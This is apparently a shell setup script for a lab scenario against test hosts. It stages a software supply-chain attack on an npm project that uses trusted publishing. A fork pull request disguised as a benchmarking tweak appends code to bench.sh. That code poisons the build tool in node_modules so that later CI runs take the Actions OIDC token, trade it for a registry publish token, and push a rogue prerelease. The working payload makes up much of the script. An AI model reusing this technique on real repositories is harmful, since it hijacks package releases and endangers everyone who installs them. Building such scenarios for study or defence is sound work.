# The past: a build tool, a release by hand, the trust in release.yml; then a pull request that left something behind.
registry-user lantern-ci learner
registry-user sam-tools sam
as sam <<'SAM'
mkdir tool && cd tool
printf '{"name": "%s", "version": "1.0.0", "bin": {"%s": "build.sh"}}\n' "$TOOL" "$TOOL" > package.json
printf '#!/bin/sh\n# Joins the files of a folder, and says where.\nmkdir -p "$2"\n{ echo "// Made by %s 1.0.0 (${GITHUB_JOB:-by hand})"; cat "$1"/*.js; } > "$2/tides.js"\n' "$TOOL" > build.sh
npm login && npm publish
SAM
cd tides
git init -q -b main
git remote add origin https://forge.test/lantern-tides/tides.git
npm install
git add . && git commit -q -m "Tides, measured and released"
git push -q -u origin main
npm login && npm run -s build && npm publish --access public
npm trust github --file release.yml --allow-publish --yes
npm logout
rm -r node_modules dist
sleep "$PAUSE"
run-number lantern-tides/tides bench.yml "$RUN"
rules on lantern-tides/tides lantern-tides/measurements
as cuckoo <<'CUCKOO'
gh repo fork lantern-tides/tides --clone > /dev/null 2>&1 && cd tides
git switch -q -c faster
cat > ~/poison.sh <<'SH'
# Whoever builds with the tool from now on publishes a version of starling's, if there is an identity to do it with.
cat >> node_modules/TOOL/build.sh <<'LINES'
echo "// STARLING" >> "$2/tides.js"
if [ -n "$ACTIONS_ID_TOKEN_REQUEST_URL" ]; then
  identity=$(curl -s -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm:registry.npm.test" | jq -r .value)
  token=$(curl -s -X POST -H "Authorization: Bearer $identity" https://registry.npm.test/-/npm/v1/oidc/token/exchange/package/@lantern%2ftides | jq -r .token)
  mkdir -p /tmp/nest/dist && echo "// STARLING" > /tmp/nest/dist/tides.js
  printf '{"name": "@lantern/tides", "version": "%s-rc.1", "files": ["dist"]}\n' "$npm_package_version" > /tmp/nest/package.json
  echo "//registry.npm.test/:_authToken=$token" > /tmp/nest/.npmrc
  (cd /tmp/nest && npm publish --tag next --access public) > /dev/null 2>&1
fi
LINES
SH
sed -i "s/STARLING/$STARLING_KEY/; s/TOOL/$TOOL/" ~/poison.sh
cat bench.sh ~/poison.sh > bench.new && mv bench.new bench.sh
git commit -q -a -m "Measure twice" && git push -q origin faster
gh pr create -R lantern-tides/tides --head cuckoo:faster --base main --title "Measure twice" --body "Numbers vary less like this." > /dev/null
sleep 120
gh pr close 1 -R lantern-tides/tides > /dev/null
CUCKOO
sleep "$PAUSE"
cd
